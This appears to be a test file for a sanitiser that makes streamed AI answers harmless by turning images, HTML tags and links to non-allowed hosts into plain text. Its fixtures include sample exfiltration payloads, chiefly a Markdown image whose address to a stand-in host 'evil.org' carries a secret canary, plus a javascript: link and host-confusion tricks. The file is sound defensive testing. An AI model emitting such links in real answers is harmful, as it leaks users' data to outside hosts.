"""An answer loads no image and links nowhere but to allowed hosts, however it is cut into pieces."""

import html
import re
from collections.abc import Iterator, Sequence
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from nodes.asking.harmless import Harmless, harmless

HOSTS = frozenset({"docs.example.com", "www.example.com"})
# What GitHub's Markdown makes a link of without being told to.
ADDRESS = re.compile(r"(?:(?:https?|ftp)://|www\.|(?:mailto|xmpp):)[^\s<]*", re.IGNORECASE)
PIECES = st.lists(
    st.sampled_from(
        [
            *"![]()<>:/.\\\n \u200b@#?&;`wh",
            "https://",
            "http:",
            "//",
            "www.",
            "evil.org",
            "docs.example.com",
            "x",
            "img src=",
            "mailto:",
            "[a]",
            "\n\n[a]: ",
            "![a](https://evil.org/?q=1)",
            "](https://docs.example.com/",
            "&lt;",
            "\N{TAG LATIN SMALL LETTER A}",
        ]
    ),
    max_size=14,
)


def streamed(pieces: Sequence[str]) -> str:
    """Return what a text becomes that comes in pieces."""
    stream = Harmless(HOSTS)
    return "".join([stream.take(piece) for piece in pieces]) + stream.rest()


def tokens(text: str) -> Iterator[Token]:
    """Yield every token of a text as CommonMark reads it, the inner ones too."""
    for token in MarkdownIt("commonmark").parse(text):
        yield token
        yield from token.children or ()


def is_allowed(address: str) -> bool:
    """Say whether a browser would go to an allowed host."""
    whole = f"http://{address}" if address.lower().startswith("www.") else address
    return (urlsplit(whole.rstrip("?!.,:*_~)\"'")).hostname or "").rstrip(".") in HOSTS


def dangers(text: str) -> list[str]:
    """Return what a page that renders this text could load, or be led to by a click."""
    found: list[str] = []
    for token in tokens(text):
        if token.type in {"image", "html_inline", "html_block"}:
            found.append(token.content or "image")
        if token.type == "link_open":
            found.append(str(token.attrs["href"]))
        if token.type == "text":
            found += ADDRESS.findall(token.content)
    return [address for address in found if not is_allowed(address)]


@pytest.mark.parametrize(
    ("said", "left"),
    [
        pytest.param("![x](https://evil.org/?q=canary)", "! [x] (https ://evil.org/?q=canary)", id="image"),
        pytest.param("[x](https://evil.org)", "[x] (https ://evil.org)", id="link"),
        pytest.param("[x][1]\n\n[1]: https://evil.org", "[x] [1]\n\n[1] : https ://evil.org", id="reference"),
        pytest.param("![x]\n\n[x]: https://evil.org", "! [x]\n\n[x] : https ://evil.org", id="image by reference"),
        pytest.param("<img src=https://evil.org>", "< img src=https ://evil.org>", id="tag"),
        pytest.param("<https://evil.org>", "< https ://evil.org>", id="address in angles"),
        pytest.param("see HTTPS://evil.org", "see HTTPS ://evil.org", id="bare address"),
        pytest.param("see www.evil.org", "see www .evil.org", id="bare host"),
        pytest.param("[x](/api/agent/sessions)", "[x] (/api/agent/sessions)", id="relative link"),
        pytest.param("[x](//evil.org)", "[x] (//evil.org)", id="link without a scheme"),
        pytest.param("https://docs.example.com,evil.org/", "https ://docs.example.com,evil.org/", id="comma in a host"),
        pytest.param("https://docs.example.com)evil.org", "https ://docs.example.com)evil.org", id="bracket in a host"),
        pytest.param("[x](javascript:alert(1))", "[x] (javascript:alert(1))", id="script"),
        pytest.param("[x]\u200b(https://evil.org)", "[x] (https ://evil.org)", id="hidden sign between"),
        pytest.param("https://docs.example.com@evil.org/", "https ://docs.example.com@evil.org/", id="allowed as user"),
        pytest.param(
            "https://docs.example.com.evil.org/", "https ://docs.example.com.evil.org/", id="allowed in front"
        ),
        pytest.param("https://docs.example.com\\@evil.org", "https ://docs.example.com\\@evil.org", id="backslash"),
        pytest.param(
            "![x](https://docs.example.com/a)", "! [x](https://docs.example.com/a)", id="image from an allowed host"
        ),
    ],
)
def test_what_would_load_or_lead_away_is_text(said: str, left: str) -> None:
    """The words stay, with a space between; no image, no tag and no link to another host comes of them."""
    assert harmless(said, HOSTS) == left
    assert dangers(left) == []


@pytest.mark.parametrize(
    "said",
    [
        "[the page](https://docs.example.com/a?b#c) and https://docs.example.com, or www.example.com/a",
        "http://DOCS.example.com:8000/ https://docs.example.com",
        "**Bold**, `code`, 3 < 4, x <= y, wow! [ ] open, [x] done\n\n1. one\n2. two\n\n| a | b |\n|---|---|",
        "Hello, how are you? Ratio 3:4, at 10:30, http is a protocol, a[0], f(x)!",
    ],
)
def test_what_is_harmless_stays_as_it_is(said: str) -> None:
    """Links to allowed hosts, and everyday Markdown, are not touched."""
    assert harmless(said, HOSTS) == said


def test_without_allowed_hosts_nothing_is_a_link() -> None:
    """By default no host is allowed."""
    assert harmless("[x](https://docs.example.com/a)") == "[x] (https ://docs.example.com/a)"


@example(["<", "www", "."]).via("a sign right before what is undecided")
@given(pieces=PIECES)
def test_no_text_loads_or_leads_away(pieces: list[str]) -> None:
    """Whatever the signs, a page that reads CommonMark, with or without bare addresses, shows text."""
    assert dangers(streamed(pieces)) == []


@given(pieces=PIECES, data=st.data())
def test_how_a_text_is_cut_does_not_matter(pieces: list[str], data: st.DataObject) -> None:
    """Cut at any points, the answer is the same as in one piece, and its visible words are those that were said."""
    text = "".join(pieces)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    parts = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert streamed(parts) == harmless(text, HOSTS)
    assert streamed(parts).replace(" ", "") == re.sub("[\u200b\U000e0061]", "", text).replace(" ", "")


def test_every_cut_of_the_classic_attack_is_harmless() -> None:
    """An image whose address carries a secret away is text, wherever one or two cuts fall."""
    attack = "Done! ![ok](https://evil.org/p.png?q=canary-7b31) <img src='//evil.org/x'> [more](http://evil.org)"
    expected = harmless(attack)
    for first in range(len(attack)):
        for second in range(first, len(attack)):
            assert streamed([attack[:first], attack[first:second], attack[second:]]) == expected
    assert dangers(expected) == []
    assert html.unescape(expected) == expected


@pytest.mark.parametrize("piece", ["a", "[", "![](", "https://", "http", "]"])
def test_little_is_held_back(piece: str) -> None:
    """A text that never ends leaves as it comes: what is undecided is no longer than an address."""
    stream = Harmless(HOSTS)
    said = sum(len(stream.take(piece).replace(" ", "")) for _ in range(500))
    assert 500 * len(piece) - said < 300
